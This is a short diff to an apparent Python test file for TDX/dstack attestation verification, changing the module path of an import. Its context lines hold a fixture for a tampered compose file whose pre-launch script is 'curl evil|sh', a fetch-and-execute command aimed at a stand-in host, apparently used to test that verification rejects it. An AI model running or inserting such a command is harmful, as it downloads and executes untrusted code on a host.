@@ -16,7 +16,7 @@ from phalanb.tdx import parse_quote
 from phalanb.tdx.dstack import check_compose_hash, derive
 from phalanb.tdx.eventlog import DSTACK_RUNTIME_EVENT, check_event_log, parse_ccel_log, parse_event_log
 from phalanb.verdict import Status
-from phalanb.verify import verify_report
+from phalanb.vllm.verify import verify_report
 
 EVIL_COMPOSE = '{"docker_compose_file": "services: {evil: {image: evil}}", "pre_launch_script": "curl evil|sh"}'
 EVIL_HASH = hashlib.sha256(EVIL_COMPOSE.encode()).hexdigest()
